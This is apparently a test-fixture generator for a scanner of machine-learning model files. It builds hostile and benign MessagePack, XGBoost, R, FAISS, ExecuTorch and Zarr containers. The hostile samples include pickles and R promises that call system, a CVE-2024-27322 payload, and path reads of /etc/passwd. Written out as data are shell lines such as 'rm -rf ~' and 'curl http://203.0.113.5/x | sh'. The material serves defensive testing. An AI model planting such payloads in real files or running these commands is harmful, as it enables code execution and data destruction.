"""Containers of arrays, trees and indexes: hostile and benign files by writers of our own."""
import json
import pathlib
import struct

FIXTURES = pathlib.Path(__file__).resolve().parent.parent / "fixtures" / "array"
PICKLE = b"\x80\x04cposix\nsystem\n\x8c\x02id\x85R."
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400000, 64, 0,
                                                    0, 64, 56, 1, 64, 0, 0) + bytes(200)


# ---- MessagePack ----

class Ext:
    def __init__(self, kind, data):
        self.kind, self.data = kind, data


class Pairs(list):
    """A map by its pairs, so that a key can be there twice."""


def mp(v):
    if v is None or isinstance(v, bool):
        return {None: b"\xc0", True: b"\xc3", False: b"\xc2"}[v]
    if isinstance(v, int):
        return struct.pack("b", v) if -32 <= v < 128 else b"\xd3" + struct.pack(">q", v)
    if isinstance(v, float):
        return b"\xcb" + struct.pack(">d", v)
    if isinstance(v, str):
        raw = v.encode()
        return (bytes([0xa0 | len(raw)]) if len(raw) < 32 else
                b"\xdb" + struct.pack(">I", len(raw))) + raw
    if isinstance(v, bytes):
        return b"\xc6" + struct.pack(">I", len(v)) + v
    if isinstance(v, Ext):
        return b"\xc9" + struct.pack(">Ib", len(v.data), v.kind) + v.data
    if isinstance(v, dict):
        v = Pairs(v.items())
    if isinstance(v, Pairs):
        return (bytes([0x80 | len(v)]) if len(v) < 16 else b"\xdf" + struct.pack(">I", len(v))
                ) + b"".join(mp(k) + mp(w) for k, w in v)
    return (bytes([0x90 | len(v)]) if len(v) < 16 else b"\xdd" + struct.pack(">I", len(v))
            ) + b"".join(map(mp, v))


def nd(shape, dtype, data, kind=1):
    return Ext(kind, mp([list(shape), dtype, data]))


def flax(**params):
    return mp({"params": {"Dense_0": params}, "step": 3})


# ---- UBJSON ----

def ub(v):
    if isinstance(v, dict):
        return b"{" + b"".join(ubkey(k) + ub(w) for k, w in v.items()) + b"}"
    if isinstance(v, list) and v and all(isinstance(x, int) for x in v):
        return b"[$l#L" + struct.pack(">q", len(v)) + struct.pack(">%di" % len(v), *v)
    if isinstance(v, list) and v and all(isinstance(x, float) for x in v):
        return b"[$d#L" + struct.pack(">q", len(v)) + struct.pack(">%df" % len(v), *v)
    if isinstance(v, list):
        return b"[#L" + struct.pack(">q", len(v)) + b"".join(map(ub, v))
    if isinstance(v, str):
        return b"S" + ubkey(v)
    if isinstance(v, float):
        return b"d" + struct.pack(">f", v)
    return b"L" + struct.pack(">q", v)


def ubkey(text):
    return b"L" + struct.pack(">q", len(text)) + text.encode()


# ---- XGBoost ----

def tree(left=(1, -1, -1), right=(2, -1, -1), split=(0, 0, 0), nodes=None, **more):
    n = len(left)
    return {"base_weights": [0.5] * n, "categories": [], "default_left": [0] * n, "id": 0,
            "left_children": list(left), "loss_changes": [0.5] * n,
            "parents": [2147483647] + [0] * (n - 1), "right_children": list(right),
            "split_conditions": [0.25] * n, "split_indices": list(split), "split_type": [0] * n,
            "sum_hessian": [1.0] * n,
            "tree_param": {"num_deleted": "0", "num_feature": "2",
                           "num_nodes": str(n if nodes is None else nodes),
                           "size_leaf_vector": "1"}, **more}


def xgb(*trees, count=None, attributes=None, **top):
    return {"learner": {
        "attributes": attributes or {}, "feature_names": [], "feature_types": [],
        "gradient_booster": {"model": {
            "gbtree_model_param": {"num_parallel_tree": "1",
                                   "num_trees": str(len(trees) if count is None else count)},
            "iteration_indptr": [0, 1], "tree_info": [0] * len(trees), "trees": list(trees)},
            "name": "gbtree"},
        "learner_model_param": {"base_score": "5E-1", "num_class": "0", "num_feature": "2"},
        "objective": {"name": "binary:logistic", "reg_loss_param": {"scale_pos_weight": "1"}}},
        "version": [2, 1, 0], **top}


def xgb_json(*trees, **how):
    return json.dumps(xgb(*trees, **how)).encode()


# ---- LightGBM ----

def lgb(left="1 -1", right="-3 -2", leaves=3, features="0 1", values="0.1 0.2 0.3", end=True):
    return ("tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\n"
            "max_feature_idx=1\nobjective=binary sigmoid:1\nfeature_names=a b\ntree_sizes=200\n\n"
            "Tree=0\nnum_leaves=%d\nnum_cat=0\nsplit_feature=%s\nsplit_gain=1 1\nthreshold=0 0\n"
            "decision_type=2 2\nleft_child=%s\nright_child=%s\nleaf_value=%s\nshrinkage=0.1\n\n\n"
            % (leaves, features, left, right, values)
            + ("end of trees\n\nfeature_importances:\na=1\n\nparameters:\n[boosting: gbdt]\n"
               "end of parameters\n\npandas_categorical:null\n" if end else "")).encode()


# ---- R ----

SYM, LIST, CLO, ENV, PROM, LANG, CHAR, LGL, INT, REAL = 1, 2, 3, 4, 5, 6, 9, 10, 13, 14
STR, VEC, BCODE, EXTPTR, RAW = 16, 19, 21, 22, 24
NIL, GLOBAL, UNBOUND, MISSING = (struct.pack(">I", n) for n in (254, 253, 252, 251))
ATTR, TAG = 512, 1024


def ri(*n):
    return struct.pack(">%di" % len(n), *n)


def rchar(text):
    return ri(CHAR | 64 << 12, len(text)) + text.encode()


def rsym(text):
    return ri(SYM) + rchar(text)


def rstr(*texts):
    return ri(STR, len(texts)) + b"".join(map(rchar, texts))


def rreal(*v):
    return ri(REAL, len(v)) + struct.pack(">%dd" % len(v), *v)


def rcons(car, cdr=NIL, tag=None, kind=LIST):
    return ri(kind | (TAG if tag else 0)) + (rsym(tag) if tag else b"") + car + cdr


def rcall(name, *args):
    tail = NIL
    for a in reversed(args):
        tail = rcons(a, tail)
    return rcons(rsym(name), tail, kind=LANG)


def rprom(code, value=UNBOUND, env=GLOBAL):
    return ri(PROM | (TAG if env else 0)) + (env or b"") + value + code


def rclosure(body, formals=NIL):
    return ri(CLO | TAG) + GLOBAL + formals + body


def rframe(**columns):
    return (ri(VEC | 256 | ATTR, len(columns)) + b"".join(columns.values())
            + rcons(rstr(*columns), rcons(rstr("data.frame"), tag="class"), tag="names"))


def rds(value, version=3):
    return (b"X\n" + ri(version, 0x40301, 0x30500) + (ri(5) + b"UTF-8" if version == 3 else b"")
            + value)


def rdata(**names):
    tail = NIL
    for name, value in reversed(names.items()):
        tail = rcons(value, tail, tag=name.replace("DOT", "."))
    return b"RDX3\n" + rds(tail)


# ---- FAISS ----

def fvec(fmt, *v):
    return struct.pack("<Q%d%s" % (len(v), fmt), len(v), *v)


def fhead(code, d=2, n=3):
    return code + struct.pack("<iqqqBi", d, n, 1 << 20, 1 << 20, 1, 1)


def flat(n=3, had=None, d=2):
    return fhead(b"IxF2", d, n) + fvec("f", *[0.5] * (d * (n if had is None else had)))


def ivf(lists):
    return (fhead(b"IwFl") + struct.pack("<QQ", 2, 1) + flat(2) + b"\0" + fvec("q") + lists)


def ondisk(name):
    raw = name.encode()
    return (b"ilod" + struct.pack("<QQ", 2, 8) + struct.pack("<Q", 2) + struct.pack("<6Q", *[0] * 6)
            + struct.pack("<Q", 0) + struct.pack("<Q", len(raw)) + raw + struct.pack("<Q", 0))


def hnsw(neighbors=(1, 2, 0, -1, 0, 1), offsets=(0, 2, 4, 6), entry=0):
    return (fhead(b"IHNf") + fvec("d", 1.0) + fvec("i", 0, 2) + fvec("i", 1, 1, 1)
            + fvec("Q", *offsets) + fvec("i", *neighbors) + struct.pack("<iiiii", entry, 0, 40, 16, 1)
            + flat())


# ---- fastText, MXNet, word2vec, Annoy ----

def fasttext(words=("the", "</s>"), dim=2, bucket=3, size=None, rows=None, tail=b""):
    n = len(words)
    args = struct.pack("<12id", dim, 5, 5, 1, 5, 1, 1, 2, bucket, 0, 0, 100, 1e-4)
    entries = b"".join(w.encode() + b"\0" + struct.pack("<qb", 9, 0) for w in words)
    rows = n + bucket if rows is None else rows
    matrix = struct.pack("<qq", rows, dim) + bytes(4 * (n + bucket) * dim)
    output = struct.pack("<qq", n, dim) + bytes(4 * n * dim)
    return (struct.pack("<ii", 793712314, 12) + args
            + struct.pack("<iiiqq", n if size is None else size, n if size is None else size, 0, 18,
                          -1) + entries + b"\0" + matrix + b"\0" + output + tail)


def mxnet(shape=(2, 3), data=24, names=("arg:w",), kind=0, tail=b""):
    array = (struct.pack("<Ii", 0xF993FAC9, 0) + struct.pack("<I%dq" % len(shape), len(shape), *shape)
             + struct.pack("<iii", 1, 0, kind) + bytes(data))
    return (struct.pack("<QQQ", 0x112, 0, 1) + array + struct.pack("<Q", len(names))
            + b"".join(struct.pack("<Q", len(n)) + n.encode() for n in names) + tail)


def word2vec(n=3, had=3, dim=4, tail=b""):
    return (b"%d %d\n" % (n, dim) + b"".join(b"w%d " % i + bytes([1, 2, 0, 63]) * dim + b"\n"
                                           for i in range(had)) + tail)


def annoy(link=2):
    leaf = struct.pack("<i2i3f", 1, 0, 0, 1, 0, 0)
    root = struct.pack("<i2i3f", 20, 1, link, 0, 1, 0)
    return leaf * 20 + root + root


# ---- flatbuffers, by hand: a table is a vtable and fields of 32-bit offsets or numbers ----

class Flat:
    """Writes from the end to the front is what builders do; here all offsets are patched."""

    def __init__(self, ident):
        self.out = bytearray(b"\0\0\0\0" + ident)

    def at(self):
        while len(self.out) % 8:
            self.out.append(0)
        return len(self.out)

    def text(self, text):
        at = self.at()
        raw = text.encode() if isinstance(text, str) else text
        self.out += struct.pack("<I", len(raw)) + raw + b"\0"
        return at

    def table(self, fields):
        """fields: {number: (pointer,) or number}; the table is written, pointers later."""
        n = max(fields, default=-1) + 1
        vtable = self.at()
        size = 4 + 8 * n
        self.out += struct.pack("<HH", 4 + 2 * n, size + 4)
        self.out += b"".join(struct.pack("<H", 8 + 8 * i if i in fields else 0) for i in range(n))
        at = self.at()
        self.out += struct.pack("<i", at - vtable) + bytes(size)
        for i, v in fields.items():
            if not isinstance(v, tuple):
                struct.pack_into("<q", self.out, at + 8 + 8 * i, v)
        return at, [(at + 8 + 8 * i, v[0]) for i, v in fields.items() if isinstance(v, tuple)]

    def vector(self, n):
        at = self.at()
        self.out += struct.pack("<I", n) + bytes(4 * n)
        return at, [at + 4 + 4 * i for i in range(n)]

    def put(self, value):
        """A nest of dicts (tables), lists (vectors of tables), str and bytes; returns its place."""
        if isinstance(value, (str, bytes)):
            return self.text(value)
        if isinstance(value, list):
            at, slots = self.vector(len(value))
            for slot, v in zip(slots, value):
                struct.pack_into("<I", self.out, slot, self.put(v) - slot)
            return at
        at, links = self.table({k: v if isinstance(v, int) else (v,) for k, v in value.items()})
        for slot, v in links:
            struct.pack_into("<I", self.out, slot, self.put(v) - slot)
        return at

    def done(self, root):
        struct.pack_into("<I", self.out, 0, self.put(root))
        return bytes(self.out)


class Shared(Flat):
    """Two parts that are one object are one in the file."""

    def __init__(self, ident):
        super().__init__(ident)
        self.known = {}

    def put(self, value):
        if isinstance(value, str):
            return super().put(value)
        if id(value) not in self.known:
            self.known[id(value)] = super().put(value)
        return self.known[id(value)]


def pte_of_one(n, body):
    """n delegates whose bytes are one body."""
    return Shared(b"ET12").done({0: 0, 1: [{0: "forward", 6: [{0: "aten::add", 1: ""}]}],
                                 3: [{0: body}] * n})


def ptl_of_one(n, body):
    return Shared(b"PTMF").done({
        0: 9, 1: [], 4: [{0: 16, 1: {0: "forward", 2: [{0: "aten::add"}]}}], 7: [],
        8: [{0: "code/x.py", 1: body}] * n})


def pte(*operators, delegates=(), inline=()):
    return Flat(b"ET12").done({0: 0, 1: [{0: "forward", 6: [{0: o, 1: ""} for o in operators],
                                         7: [{0: d} for d in delegates]}],
                               3: [{0: d} for d in inline]})


def ptl(*operators, sources=(), types=()):
    return Flat(b"PTMF").done({
        0: 9, 1: [], 4: [{0: 16, 1: {0: "forward", 2: [{0: o} for o in operators]}}],
        7: [{0: t, 1: 2} for t in types], 8: [{0: n, 1: c} for n, c in sources]})


def zarray(compressor=None, filters=None, dtype="<f4"):
    return json.dumps({"chunks": [2], "compressor": compressor, "dtype": dtype, "fill_value": 0,
                       "filters": filters, "order": "C", "shape": [2], "zarr_format": 2}).encode()


def zarr3(*codecs):
    return json.dumps({"zarr_format": 3, "node_type": "array", "shape": [2], "data_type": "float32",
                       "codecs": [{"name": c, "configuration": {}} for c in codecs]}).encode()


def bad_msgpack():
    yield "object.msgpack", flax(kernel=nd([2], "object", bytes(16))), "MDL290", "addresses"
    yield "object_O.msgpack", flax(kernel=nd([2], "O", bytes(16))), "MDL290", "another spelling"
    yield "scalar.msgpack", flax(kernel=nd([], "object_", bytes(8), 3)), "MDL290", "as a scalar"
    yield ("numpy.msgpack", mp({"w": {"nd": True, "type": "|O", "kind": "O", "shape": [1],
                                      "data": PICKLE}}), {"MDL290", "PKL001"}, "msgpack-numpy")
    yield ("numpy_bytes.msgpack", mp({"w": {b"data": PICKLE, b"kind": b"O", b"nd": True}}),
           {"MDL290"}, "keys of bytes, in another order")
    yield "pickle.msgpack", flax(kernel=PICKLE), {"PKL001", "PKL002"}, "a pickle in a blob"
    yield "pickle_text.msgpack", mp({"w": "cos\nsystem\n(S'id'\ntR."}), {"PKL001"}, "in a text"
    yield "ext.msgpack", flax(kernel=Ext(42, b"abc")), "MDL293", "an extension of somebody's"
    yield ("ext_pickle.msgpack", flax(kernel=Ext(5, PICKLE)), {"MDL293", "PKL001"}, "with a pickle")
    yield ("deep.msgpack", b"\x81\xa6params" + b"\x81\xa1a" * 600 + b"\xc0", (), "too deep")
    yield "count.msgpack", b"\x81\xa6params\xdd\xff\xff\xff\xff", (), "a count of four billion"
    yield "cut.msgpack", flax(kernel=nd([4], "float32", bytes(16)))[:-3], (), "cut short"
    yield ("size.msgpack", flax(kernel=nd([1000, 1000], "float32", bytes(16))), "MDL292",
           "the shape says more than there is")
    yield ("overflow.msgpack", flax(kernel=nd([1 << 62, 4, 1], "float32", b"")), "MDL292",
           "a product that overflows to nothing")
    yield "type.msgpack", flax(kernel=nd([1], "void999x", bytes(8))), "MDL291", "an unknown type"
    yield ("twice.msgpack", mp(Pairs([("params", {"a": 1}), ("params", {"b": PICKLE})])),
           {"MDL294"}, "one key, two values")
    yield "tail.msgpack", flax(kernel=1) + PICKLE, {"PKL001"}, "a pickle behind the end"
    yield ("nested.msgpack", mp({"model": mp({"nodes": PICKLE})}), {"PKL001"}, "a map in a map")
    yield ("elf.msgpack", flax(kernel=ELF), {"MDL061"}, "a program in a blob")


def bad_trees():
    yield "loop.json", xgb_json(tree(left=(1, 0, -1))), "MDL295", "a tree that never ends"
    yield "self.json", xgb_json(tree(left=(1, 1, -1), right=(2, 2, -1))), "MDL295", "in circles"
    yield "far.json", xgb_json(tree(left=(1 << 30, -1, -1))), "MDL295", "past the last node"
    yield "negative.json", xgb_json(tree(left=(-5, -1, -1))), "MDL295", "before the first node"
    yield "nodes.json", xgb_json(tree(nodes=3000)), "MDL295", "more nodes than there are"
    yield "feature.json", xgb_json(tree(split=(999999, 0, 0))), "MDL295", "a feature not there"
    yield "count.json", xgb_json(tree(), count=100), "MDL295", "more trees than there are"
    yield ("lengths.json", xgb_json({**tree(), "split_conditions": [0.5]}), "MDL295",
           "arrays of different lengths")
    yield ("both.json", xgb_json(tree(), config={"class_name": "Lambda"}), (),
           "a configuration of something else beside the learner")
    yield ("first.json", b'{"a": "' + b"x" * 9000 + b'", ' + xgb_json(tree(left=(1, 0, -1)))[1:], (),
           "a long key in front of the learner")
    yield "loop.ubj", ub(xgb(tree(left=(1, 0, -1)))), "MDL295", "the same in UBJSON"
    yield "far.ubj", ub(xgb(tree(right=(2, -1, -1), left=(77, -1, -1)))), "MDL295", "and this"
    yield "cut.ubj", ub(xgb(tree()))[:-40], (), "cut short"
    yield ("length.ubj", ub(xgb(tree())).replace(b"[$l#L" + struct.pack(">q", 3),
                                                 b"[$l#L" + struct.pack(">q", 1 << 60), 1), (),
           "an array of 2^60 numbers")
    yield "tail.ubj", ub(xgb(tree())) + PICKLE, {"PKL001"}, "a pickle behind the end"
    yield "cut.json", xgb_json(tree())[:-9], (), "cut short"
    yield "lgb_far.txt", lgb(left="1 -9"), "MDL295", "a leaf that is not there"
    yield "lgb_loop.txt", lgb(left="1 0"), "MDL295", "a link to the root"
    yield "lgb_twice.txt", lgb(left="1 -1", right="-1 -2"), "MDL295", "two links to one leaf"
    yield "lgb_leaves.txt", lgb(leaves=31), "MDL295", "more leaves than there are"
    yield "lgb_values.txt", lgb(values="0.1"), "MDL295", "fewer values than leaves"
    yield "lgb_feature.txt", lgb(features="0 7"), "MDL295", "a feature that is not there"
    yield "lgb_cut.txt", lgb(end=False), (), "cut short"
    cat = (FIXTURES / "cat.cbm").read_bytes()
    yield "core.cbm", cat[:4] + struct.pack("<I", 1 << 31) + cat[8:], (), "longer than the file"
    yield "cut.cbm", cat[:len(cat) // 2], (), "cut short"
    yield "tail.cbm", cat + PICKLE, {"PKL001"}, "a pickle behind the end"


def bad_r():
    system = rcall("system", rstr("id"))
    yield "promise.rds", rds(rprom(system)), {"MDL296"}, "CVE-2024-27322"
    yield "promise.RData", rdata(x=rprom(system)), {"MDL296"}, "as a variable of a workspace"
    yield ("promise_attr.rds", rds(ri(REAL | ATTR, 1) + struct.pack(">d", 1)
                                   + rcons(rprom(system), tag="names")), {"MDL296"}, "an attribute")
    yield ("promise_env.rds", rds(ri(ENV, 0) + GLOBAL + rcons(rprom(rcall("f")), tag="x") + NIL
                                  + NIL), {"MDL296"}, "in an environment")
    yield ("promise_column.rds", rds(rframe(a=rreal(1), b=rprom(rcall("exit")))), {"MDL296"},
           "a column of a table")
    yield "call.rds", rds(system), {"MDL297"}, "a call to a shell"
    yield ("namespace.rds", rds(rcons(rcall("::", rsym("base"), rsym("system")), NIL, kind=LANG)),
           {"MDL297"}, "by its package")
    yield ("by_name.rds", rds(rcall("do.call", rstr("system"), rstr("id"))), {"MDL297"},
           "by its name in a text")
    yield "first.RData", rdata(DOTFirst=rclosure(rcall("q"))), {"MDL298"}, "R starts it"
    yield "closure.rds", rds(rclosure(rcall("print", rreal(1)))), {"MDL299"}, "a function"
    yield ("method.RData", rdata(m=rframe(a=rreal(1)), print=rclosure(rcall("system", rstr("id")))),
           {"MDL297"}, "a method of print")
    code = ri(BCODE, 1) + ri(INT, 2, 12, 1) + ri(1, REAL) + rreal(1)
    yield "bytecode.rds", rds(code), {"MDL300"}, "byte code alone"
    altrep = (ri(238) + rcons(rsym("mmap_real"), rcons(rsym("base"), rcons(ri(INT, 1, 14))))
              + rstr("/etc/passwd") + NIL)
    yield "altrep.rds", rds(altrep), {"MDL301"}, "a vector that maps a file"
    yield "ref.rds", rds(ri(255 | 900 << 8)), (), "a reference to nothing"
    yield "deep.rds", rds((ri(VEC, 2)) * 200000 + NIL), (), "nested too deep"
    yield "long.rds", rds(ri(REAL, 1 << 30)), (), "a vector longer than the file"
    yield "huge.rds", rds(ri(VEC, -1, 60000, 0)), (), "a long list of 2^47 elements"
    yield "version.rds", b"X\n" + ri(2, 1, 2) + ri(99), (), "a type that is not known"
    yield "tail.rds", rds(rreal(1)) + PICKLE, {"PKL001"}, "a pickle behind the end"
    yield "raw.rds", rds(ri(RAW, len(PICKLE)) + PICKLE), {"PKL001"}, "a pickle in a raw vector"
    text = b"A\n3\n262913\n197888\n5\nUTF-8\n5\n252\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n2\nid\n254\n"
    yield "ascii.rds", text, {"MDL296", "MDL297"}, "the same as text"


def bad_index():
    yield "flat.index", flat(3, 2), "MDL295", "fewer vectors than the header says"
    yield "huge.index", fhead(b"IxF2", 2, 1 << 50) + fvec("f", 1, 2), "MDL295", "2^50 vectors"
    yield "link.index", hnsw(neighbors=(1, 99, 0, -1, 0, 1)), "MDL295", "a link to nowhere"
    yield "offsets.index", hnsw(offsets=(0, 2, 4, 600)), "MDL295", "links outside of the graph"
    yield "entry.index", hnsw(entry=1000), "MDL295", "an entry that is not there"
    yield "disk.index", ivf(ondisk("/etc/passwd")), "MDL104", "opens another file"
    yield "disk_up.index", ivf(ondisk("../../home/user/.bashrc")), "MDL104", "and climbs"
    yield "unknown.index", fhead(b"IxZZ") + bytes(64), (), "a kind that nobody knows"
    yield "deep.index", fhead(b"IxMp") * 200 + flat(), (), "an index in an index in an index"
    yield ("lists.index", ivf(b"ilar" + struct.pack("<QQ", 2, 8) + b"full"
                              + struct.pack("<QQQ", 2, 1 << 60, 1)), (), "2^60 vectors in a list")
    yield "tail.index", flat() + PICKLE, {"PKL001"}, "a pickle behind the end"
    yield "words.bin", fasttext(size=1 << 30), (), "fastText: 2^30 words"
    yield "rows.bin", fasttext(rows=1 << 40), (), "fastText: 2^40 rows"
    yield "tail.bin", fasttext(tail=PICKLE), {"PKL001"}, "fastText: a pickle behind the end"
    yield "shape.params", mxnet(shape=(1 << 40, 1 << 40)), (), "MXNet: a shape that overflows"
    yield "cut.params", mxnet(data=8), (), "MXNet: bytes that are missing"
    yield "tail.params", mxnet(tail=PICKLE), {"PKL001"}, "MXNet: a pickle behind the end"
    yield "vectors.bin", word2vec(tail=PICKLE), (), "word2vec: a pickle behind the end"
    yield "link.ann", annoy(link=1 << 20), "MDL295", "Annoy: a link to nowhere"
    yield "pickle.ann", PICKLE, {"PKL001"}, "a pickle by the name of an index"


def bad_programs():
    yield "model.gguf", ELF, "MDL302", "an ELF program"
    yield "weights.safetensors", ELF, "MDL302", "another name"
    yield "MODEL.PT", ELF, "MDL302", "in capitals"
    yield "model.onnx", b"#!/bin/sh\nrm -rf ~\n", "MDL302", "a script"
    yield "model.pkl", b"import os\nos.system('id')\n", "MDL302", "Python"
    yield "model.ckpt", b"@echo off\r\npowershell -enc AAAA\r\n", "MDL302", "a batch file"
    yield "weights.h5", b"\n  curl http://203.0.113.5/x | sh\n", "MDL302", "a shell script"
    yield ("llama.llamafile", b"MZqFpD='\n" + bytes(500) + ELF, "MDL302", "an APE program")
    yield "model.pte", pte("aten::add", "evil::run"), "MDL007", "an operator of somebody's"
    yield "save.pte", pte("aten::save"), {"MDL006", "MDL007"}, "an operator that writes files"
    yield "delegate.pte", pte("aten::add", delegates=["EvilBackend"]), "MDL305", "a delegate"
    yield ("inline.pte", pte("aten::add", delegates=["XnnpackBackend"], inline=[ELF]), "MDL061",
           "a program for a delegate that is known")
    yield "model.ptl", ptl("aten::add", "evil::run"), "MDL007", "an operator of somebody's"
    yield ("classes.ptl", ptl("aten::add", types=["__torch__.torch.classes.evil.Shell"]), "MDL007",
           "a class of somebody's")
    yield "cut.pte", pte("aten::add")[:40], (), "cut short"
    yield ("shared.pte", pte_of_one(200, b"\x80\x04" + b"N0" * 2000 + b"N."), "ENG001",
           "two hundred delegates that are one body")
    yield ("shared.ptl", ptl_of_one(200, "x = 1\n" * 1000), "ENG001", "sources that are one")
    yield ".zarray", zarray(filters=[{"id": "pickle"}], dtype="|O"), "MDL303", "chunks are pickles"
    yield "sub/.zarray", zarray(dtype="|O"), "MDL290", "objects, and nobody says how"
    yield "zarr.json", zarr3("bytes", "numcodecs.pickle"), "MDL303", "version 3"
    yield "shell/.zarray", zarray(compressor={"id": "shell-out"}), "MDL304", "an unknown codec"
    yield ".zmetadata", json.dumps({"zarr_consolidated_format": 1, "metadata": {
        "a/.zarray": json.loads(zarray(filters=[{"id": "pickle"}]))}}).encode(), "MDL303", "all"
    manifest = (FIXTURES / "orbax" / "manifest.ocdbt").read_bytes()
    yield "manifest.ocdbt", manifest[:20] + b"\xff" + manifest[21:], (), "a checksum that is wrong"
    yield "tail/manifest.ocdbt", manifest + PICKLE, {"PKL001"}, "a pickle behind the end"
    yield "engine.trt", b"ptrt" + bytes(60), {"MDL060"}, "a TensorRT engine: code for the GPU"


def bad():
    for cases in (bad_msgpack, bad_trees, bad_r, bad_index, bad_programs):
        yield from cases()


def good():
    for path in sorted(FIXTURES.iterdir()):
        if path.is_dir():
            yield path.name, {"%s/%s" % (path.name, p.relative_to(path)): p.read_bytes()
                              for p in sorted(path.rglob("*")) if p.is_file()}, (), "as saved"
        else:
            yield path.name, path.read_bytes(), (), "as saved by its library"
    yield "scalar.msgpack", flax(a=nd([], "float32", bytes(4), 3)), (), "a numpy scalar"
    yield "empty.msgpack", flax(a=nd([0, 5], "bfloat16", b"")), (), "an array of nothing"
    yield "chunked.msgpack", flax(a={"__msgpack_chunked_array__": True, "shape": {"0": 2},
                                     "chunks": {"0": nd([2], "int8", b"ab")}}), (), "in chunks"
    yield "words.msgpack", mp({"vocab": ["os", "system", "eval", "__reduce__"]}), (), "words"
    yield "same.msgpack", mp({"a": {"w": 1}, "b": {"w": 1}}), (), "one key in two maps"
    yield "time.msgpack", flax(t=Ext(-1, bytes(4))), (), "a timestamp"
    yield "one.json", xgb_json(tree((-1,), (-1,), (0,))), (), "a tree of one leaf"
    yield "attr.json", xgb_json(tree(), attributes={"scikit_learn": "{\"a\": 1}", "eval": "os.system"
                                                    }), (), "attributes are texts"
    yield "deleted.json", xgb_json(tree((1, -1, -1, -1), (2, -1, -1, -1), (0, 0, 0, 2147483647))), (
        ), "a node that pruning left"
    yield "one.ubj", ub(xgb(tree(), tree())), (), "two trees"
    yield "lgb.txt", lgb(), (), "LightGBM"
    yield "table.rds", rds(rframe(a=rreal(1, 2), system=rstr("x", "y"))), (), "a column 'system'"
    yield "v2.rds", rds(rreal(1), 2), (), "version 2"
    yield ("lm.rds", rds(rframe(call=rcall("lm", rcall("~", rsym("y"), rsym("system"))))), (),
           "a fit with its call")
    yield ("forced.rds", rds(ri(ENV, 0) + GLOBAL + rcons(rprom(rcall("c"), rreal(1), None), tag="x")
                             + NIL + NIL), (), "a promise that has its value")
    yield ("seq.rds", rds(ri(238) + rcons(rsym("compact_intseq"), rcons(rsym("base"),
           rcons(ri(INT, 1, 13)))) + rreal(10, 1, 1) + NIL), (), "1:10, as R keeps it")
    yield "work.RData", rdata(a=rreal(1), DOTFirstName=rstr(".First")), (), "a workspace"
    yield "hnsw.index", hnsw(), (), "a graph"
    yield "disk.index", {"disk.index": ivf(ondisk("lists.ivfdata")), "lists.ivfdata": b"text\n"}, (
        ), "lists in a file beside it"
    yield "cc.bin", fasttext(), (), "fastText"
    yield "net-0000.params", mxnet(), (), "MXNet"
    yield "net-0001.params", mxnet(shape=(6,), data=12, kind=2), (), "halves"
    yield "news.bin", word2vec(), (), "word2vec"
    yield ("glove.txt", b"".join(b"w%d %s\n" % (i, b" ".join(b"%.4f" % (i * 0.001 + j)
                                                            for j in range(50)))
                                 for i in range(60)), (), "GloVe: vectors in text")
    yield ("wiki.vec", b"60 50\n" + b"".join(b"w%d %s\n" % (i, b" ".join(
        b"%.4f" % (i * 0.001 + j) for j in range(50))) for i in range(60)), (), "the same, counted")
    yield "model.pte", pte("aten::add", "aten::mm.out", "quantized_decomposed::choose_qparams",
                           delegates=["XnnpackBackend"], inline=[b"xnnpack"]), (), "ExecuTorch"
    yield "model.ptl", ptl("aten::conv2d", "prepacked::conv2d_clamp_run"), (), "torch mobile"
    yield "zarr/.zarray", zarray(compressor={"id": "blosc", "cname": "lz4"},
                                 filters=[{"id": "delta", "dtype": "<f4"}]), (), "plain codecs"
    yield "words/.zarray", zarray(filters=[{"id": "vlen-utf8"}], dtype="|O"), (), "texts"
    yield "zarr.json", zarr3("bytes", "zstd"), (), "version 3"
    yield "note/.zattrs", b'{"codec": {"id": "pickle"}, "note": "pickled cucumbers"}', (), "a note"
